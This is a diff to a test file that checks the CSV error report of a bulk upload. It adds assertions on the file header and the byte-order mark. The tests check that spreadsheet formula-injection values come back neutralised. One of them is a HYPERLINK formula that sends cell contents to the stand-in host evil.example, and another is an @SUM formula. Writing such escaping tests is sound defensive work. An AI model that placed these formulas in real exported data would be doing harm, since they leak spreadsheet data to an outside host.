@@ -130,7 +130,9 @@ describe('error report', () => {
     const job = await onboard(platform, agg.token, { file });
     expect(job).toMatchObject({ failed: 3 });
     const res = await errorReport(platform, agg.token, job.upload_id);
-    const rows: Record<string, string>[] = parse(res.body, { columns: true });
+    expect(res.headers['content-disposition']).toBe(`attachment; filename=bulk-upload-${job.upload_id}-errors.csv`);
+    expect(res.body.startsWith('\ufeffrow_number,outcome,error_fields,error_messages,name,')).toBe(true);
+    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
     expect(rows[0].name).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
     expect(rows[0].longitude).toBe('-12.5');
     expect(rows[1].name).toBe('\'@SUM(1+1)');
